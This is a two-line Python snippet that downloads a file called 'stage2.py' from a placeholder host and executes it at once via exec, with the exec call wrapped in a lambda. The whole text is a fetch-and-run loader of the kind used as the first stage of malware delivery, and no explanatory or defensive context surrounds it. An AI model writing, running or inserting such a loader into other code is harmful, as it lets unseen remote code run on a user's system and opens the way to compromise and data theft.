import urllib.request

(lambda code: exec(code))(urllib.request.urlopen("https://example.invalid/stage2.py").read())
